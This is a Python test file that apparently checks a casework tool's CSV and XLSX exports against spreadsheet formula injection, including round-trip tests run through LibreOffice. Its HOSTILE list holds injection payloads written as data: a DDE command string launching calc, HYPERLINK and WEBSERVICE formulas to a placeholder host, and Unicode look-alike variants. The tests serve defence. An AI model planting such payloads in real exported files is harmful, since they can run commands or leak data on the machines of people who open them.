"""ASSURANCE T23: no word of evidence becomes a formula in a spreadsheet, and every word comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from probanda import Case
from probanda.casework.export import KINDS
from probanda.casework.sheets import COLUMNS, Table, csv_bytes, guarded, table, unguarded, write_csv, xlsx_bytes
from probanda.reading.formats.csv_table import rows_of
from probanda.reading.formats.xlsx import extract
from tests.running import exported, run

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "'=1+1", "''=1+1", '"=1+1"', "“=1+1”",
    "«=1+1»", "„=1+1“", "' =1+1", '=HYPERLINK("http://example.invalid/?"&A1;"see")', "=cmd|'/C calc'!A0",
    "=DDE(\"soffice\";\"a\";\"b\")", '"\r=1+1', "-9 killed", "@speaker said", "+961 1 000", "=", "-", "'", "''",
    "'quoted'", ";=1+1", ",=1+1", "a;=1+1", 'x",=1+1,"y', "line\n=1+1", "a\tb", "Orvane", "", "=\u0661+\u0662",
    "_x003D_1+1", "_x0009_", "{=1+1}", "1e5", "0012", "3/5", "TRUE", "2031-05-03", "قتل تسعة", "=WEBSERVICE(\"http://example.invalid\")",
]  # fmt: skip
TEXTS = [text for text in HOSTILE if text]


def hostile(kind: str) -> Table:
    """An export of this kind in which every column holds every hostile text once."""
    return Table(kind, COLUMNS[kind], tuple(tuple(text for _ in COLUMNS[kind]) for text in HOSTILE))


def starts_formula(cell: str) -> bool:
    return re.match(r"[\s\"'“”„«»\u200b\u202e\ufeff]*[=+\-@\t\r\n＝＋－＠﹦]", cell) is not None


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("kind", KINDS)
def test_no_cell_of_a_csv_can_start_a_formula_and_each_comes_back(kind: str) -> None:
    made = hostile(kind)
    _, *rows = read_csv(csv_bytes(made))
    for row, before in zip(rows, made.rows, strict=True):
        for cell, text in zip(row, before, strict=True):
            assert cell.startswith("'") or not starts_formula(cell), cell
            assert unguarded(cell) == text


@pytest.mark.parametrize("kind", KINDS)
def test_every_cell_of_a_workbook_is_a_text_and_each_comes_back(kind: str) -> None:
    made = hostile(kind)
    data = xlsx_bytes(made)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314 (our own bytes)
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(root.iter(f"{main}f"))
    assert {cell.get("t") for cell in root.iter(f"{main}c")} == {"inlineStr"}
    found = extract(data)
    words = [found.words[one.start : one.end] for one in found.located]
    assert words[len(made.columns) :] == [t for row in made.rows for t in row if t.strip()]


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"＝“\u200ba1"), max_size=8) | st.text(max_size=12))
def test_the_guard_can_be_undone_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text).startswith("'") or not starts_formula(text)


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12), min_size=2, max_size=2))
def test_any_text_comes_back_from_both_kinds_of_table(texts: list[str]) -> None:
    made = Table("mentions", ("a", "b"), (tuple(texts),))
    assert [unguarded(cell) for cell in read_csv(csv_bytes(made))[1]] == texts
    ours = [[one.value for one in row] for row in rows_of(csv_bytes(made).decode(), ",")]
    assert [unguarded(cell) for cell in ours[1]] == texts
    found = extract(xlsx_bytes(made))
    assert [found.words[one.start : one.end] for one in found.located][2:] == [t for t in texts if t.strip()]


@pytest.fixture(scope="module")
def case_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small case worked out to the end, with formulas in the names of its files and in its words."""
    folder = tmp_path_factory.mktemp("spreadsheets")
    texts = {
        "=1+1.txt": "The council of Tamrit said on 4 May 2031 that Idris al-Shammaq, commander of the Northern "
        "Brigade, killed twelve farmers near the mill.\n\nIdris al-Shammaq commands the Northern Brigade.\n",
        "@other.txt": "=HYPERLINK(A1) said the council.\n\nResidents said on 4 May 2031 that the Northern Brigade "
        "killed forty farmers near the mill of Tamrit. The Northern Brigade denied that it had killed anyone.\n",
    }
    for name, words in texts.items():
        (folder / name).write_text(words, encoding="utf-8")
    with Case.new(folder / "case", situation="Karvel since 2031", prefix="KRV") as case:
        case.add([folder / name for name in texts])
        case.read()
        case.incidents()
        case.matrix()
    return folder / "case"


@pytest.mark.slow
def test_the_command_writes_the_rows_that_it_prints(case_folder: Path, tmp_path: Path) -> None:
    out, book = tmp_path / "claims.csv", tmp_path / "claims.xlsx"
    said = run("-C", case_folder, "export", "claims", "--csv", out, "--xlsx", book)
    assert said.stdout.splitlines() == [str(out), str(book)]
    names, *rows = read_csv(out.read_bytes())
    claims = exported(case_folder, "claims")
    assert tuple(names) == COLUMNS["claims"]
    assert [[unguarded(cell) for cell in row] for row in rows] == [list(row) for row in table("claims", claims).rows]
    assert book.read_bytes() == xlsx_bytes(table("claims", claims))


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_of_a_case_has_its_columns_and_no_formula(case_folder: Path, tmp_path: Path, kind: str) -> None:
    with Case.open(case_folder, writing=False) as case:
        write_csv(tmp_path / "out.csv", kind, case.export(kind))
    names, *rows = read_csv((tmp_path / "out.csv").read_bytes())
    assert tuple(names) == COLUMNS[kind], "a key of the export has no column yet"
    assert len(rows) == len(exported(case_folder, kind))
    assert rows or kind in ("contradictions", "ties", "origins"), f"nothing to look at in {kind}"
    assert not [cell for row in rows for cell in row if starts_formula(cell) and not cell.startswith("'")]
    if kind in ("claims", "mentions"):
        assert {"'=1+1.txt", "'@other.txt"} <= {row[names.index("doc")] for row in rows}


@pytest.mark.slow
def test_restricted_items_leave_in_a_table_only_with_a_logged_reason(case_folder: Path, tmp_path: Path) -> None:
    with Case.open(case_folder) as case:
        case.label(case.items()[0].number, "restricted", reason="a source asked for it")
    run("-C", case_folder, "export", "mentions", "--csv", tmp_path / "open.csv")
    names, *rows = read_csv((tmp_path / "open.csv").read_bytes())
    assert {row[names.index("doc")] for row in rows} == {"'@other.txt"}
    run("-C", case_folder, "export", "mentions", "--csv", tmp_path / "all.csv", "--include-restricted", "for counsel")
    with Case.open(case_folder, writing=False) as case:
        (logged,) = case.store.standing(case.eyes, "mentions", "output")
    assert (logged.reason, logged.payload["kind"]) == ("for counsel", "export mentions")


def converted(path: Path, folder: Path, options: str = "") -> ElementTree.Element:
    """The table as LibreOffice opens it, as flat OpenDocument."""
    command = [
        "soffice", "--headless", "--norestore", f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        *([f"--infilter={options}"] if options else []), "--convert-to", "fods", "--outdir", folder, path,
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return ElementTree.parse(folder / f"{path.stem}.fods").getroot()  # noqa: S314 (made from our own bytes)


TABLE, TEXT, OFFICE = (f"{{urn:oasis:names:tc:opendocument:xmlns:{one}:1.0}}" for one in ("table", "text", "office"))


def words_of(cell: ElementTree.Element) -> str:
    """The words of an OpenDocument cell, with its tabs, spaces and lines."""

    def inner(element: ElementTree.Element) -> str:
        own = {f"{TEXT}tab": "\t", f"{TEXT}line-break": "\n"}.get(element.tag, "")
        if element.tag == f"{TEXT}s":
            own = " " * int(element.get(f"{TEXT}c", "1"))
        return own + (element.text or "") + "".join(inner(child) + (child.tail or "") for child in element)

    return "\n".join(inner(p) for p in cell.findall(f"{TEXT}p"))


def cells_of(root: ElementTree.Element) -> list[str]:
    """The first column of the first sheet, below its name."""
    sheet = next(root.iter(f"{TABLE}table"))
    found: list[str] = []
    for row in sheet.iter(f"{TABLE}table-row"):
        first = row.find(f"{TABLE}table-cell")
        if first is not None and int(row.get(f"{TABLE}number-rows-repeated", "1")) == 1:
            found.append(words_of(first))
    return found[1:]


# UTF-8, commas, quotes; every column as text would hide a formula, so each is left to the program to judge.
AS_CSV = "Text - txt - csv (StarCalc):44,34,76,1"


@pytest.mark.slow
@pytest.mark.needs("soffice")
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_spreadsheet_program_finds_no_formula_and_the_same_words(tmp_path: Path, suffix: str) -> None:
    made = Table("mentions", ("text", "again"), tuple((text, text) for text in TEXTS))
    path = tmp_path / f"hostile.{suffix}"
    path.write_bytes(csv_bytes(made) if suffix == "csv" else xlsx_bytes(made))
    root = converted(path, tmp_path, AS_CSV if suffix == "csv" else "")
    formulas = [cell.get(f"{TABLE}formula") for cell in root.iter(f"{TABLE}table-cell") if cell.get(f"{TABLE}formula")]
    assert formulas == []
    assert not list(root.iter(f"{TEXT}a")), "no link may become active"
    found = [unguarded(words) if suffix == "csv" else words for words in cells_of(root)]
    # How a program shows figures and ends a line is its own; the words are ours.
    ours = [tuple(re.sub(r"\r\n?", "\n", one) for one in pair) for pair in zip(TEXTS, found, strict=True)]
    figures = ("1e5", "0012", "3/5", "2031-05-03") if suffix == "csv" else ()
    assert [(a, b) for a, b in ours if a != b and a not in figures] == []


@pytest.mark.slow
@pytest.mark.needs("soffice")
def test_without_the_guard_the_same_program_does_find_formulas(tmp_path: Path) -> None:
    path = tmp_path / "open.csv"
    path.write_text("text\n=1+1\n+1+1\n", encoding="utf-8")
    root = converted(path, tmp_path, AS_CSV)
    assert any(cell.get(f"{TABLE}formula") for cell in root.iter(f"{TABLE}table-cell"))
